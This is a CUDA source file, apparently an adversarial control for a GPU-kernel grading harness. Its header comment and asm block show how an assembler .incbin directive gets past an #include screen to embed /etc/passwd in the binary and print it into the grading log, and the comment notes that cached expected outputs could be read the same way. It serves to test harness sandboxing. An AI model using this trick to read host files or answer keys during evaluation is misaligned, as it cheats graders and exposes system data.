/*
Adversarial control: asm_incbin_passwd   (compile stage: reading a host file without any
#include)

Attack. The screen looks at #include lines; the assembler has its own way to read files. A
top-level asm statement in host code holds `.incbin "/etc/passwd"`: GNU as copies the file's
bytes into .rodata of the shared object at build time, where the candidate can read them at
run time like any other constant. run() prints the first lines of the blob to stderr (the log
tail is in the record) and then computes an honest CUDA-core GEMM. Any regular file the
build can read works the same way: other candidates' sources in the build cache, cached
expected outputs (at a sha256-named path the attacker can compute), configuration files.
This control compiles wherever the file is readable at build time.

Old harness: PASSED, with "root:x:0:0:..." in the record's log tail.
Now: nvcc, and the gcc and as it runs, are confined to the toolkit, the system headers and
the source, so as cannot open /etc/passwd -> COMPILE_ERROR ("file not found"), and the
file's content appears nowhere in the record. A screen rule against asm file directives
(.incbin, .include) would make it REJECTED instead, which is just as fair. If the build's
sandbox lets it read /etc (for ld.so.cache, say), this attack still works: see the report.
*/
#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include <cstdio>
#include <cstring>

asm(".section .rodata\n"
    ".balign 16\n"
    "adv_blob_begin:\n"
    ".incbin \"/etc/passwd\"\n"
    "adv_blob_end:\n"
    ".byte 0\n"
    ".balign 8\n"
    "adv_blob_size:\n"
    ".quad adv_blob_end - adv_blob_begin\n"
    ".text\n");
extern "C" const char adv_blob_begin[] __asm__("adv_blob_begin");
extern "C" const unsigned long long adv_blob_size __asm__("adv_blob_size");

namespace {

// ---- a plain CUDA-core GEMM: 64x64 tiles, 16-deep K steps, 256 threads, 4x4 outputs each ----
__global__ void __launch_bounds__(256)
    cc_gemm(const __nv_bfloat16* __restrict__ A, const __nv_bfloat16* __restrict__ B,
            __nv_bfloat16* __restrict__ C, int M, int N, int K) {
  __shared__ float As[16][65], Bs[16][65];  // [k][row], padded
  const int tx = threadIdx.x & 15, ty = threadIdx.x >> 4;
  const int m0 = blockIdx.y * 64, n0 = blockIdx.x * 64;
  float acc[4][4] = {};
  for (int k0 = 0; k0 < K; k0 += 16) {
    for (int i = threadIdx.x; i < 64 * 16; i += 256) {
      const int r = i >> 4, k = i & 15, gk = k0 + k;
      As[k][r] = (m0 + r < M && gk < K) ? __bfloat162float(A[(size_t)(m0 + r) * K + gk]) : 0.f;
      Bs[k][r] = (n0 + r < N && gk < K) ? __bfloat162float(B[(size_t)(n0 + r) * K + gk]) : 0.f;
    }
    __syncthreads();
#pragma unroll
    for (int k = 0; k < 16; ++k)
#pragma unroll
      for (int i = 0; i < 4; ++i)
#pragma unroll
        for (int j = 0; j < 4; ++j)
          acc[i][j] = fmaf(As[k][ty + 16 * i], Bs[k][tx + 16 * j], acc[i][j]);
    __syncthreads();
  }
  for (int i = 0; i < 4; ++i) {
    const int m = m0 + ty + 16 * i;
    if (m >= M) continue;
    for (int j = 0; j < 4; ++j) {
      const int n = n0 + tx + 16 * j;
      if (n < N) C[(size_t)m * N + n] = __float2bfloat16_rn(acc[i][j]);
    }
  }
}

int launch_cc_gemm(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  const dim3 grid((unsigned)((N + 63) / 64), (unsigned)((M + 63) / 64));
  if (grid.y > 65535u) return 20;
  cc_gemm<<<grid, 256, 0, stream>>>(A, B, C, M, N, K);
  return cudaGetLastError() == cudaSuccess ? 0 : 21;
}

}  // namespace

extern "C" int run(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  if (M <= 0 || N <= 0 || K <= 0) return 1;
  static bool once = [] {
    fprintf(stderr, "%.300s\n", adv_blob_begin);  // the blob is NUL-terminated
    fflush(stderr);
    return adv_blob_size > 0;
  }();
  (void)once;
  return launch_cc_gemm(A, B, C, M, N, K, stream);
}
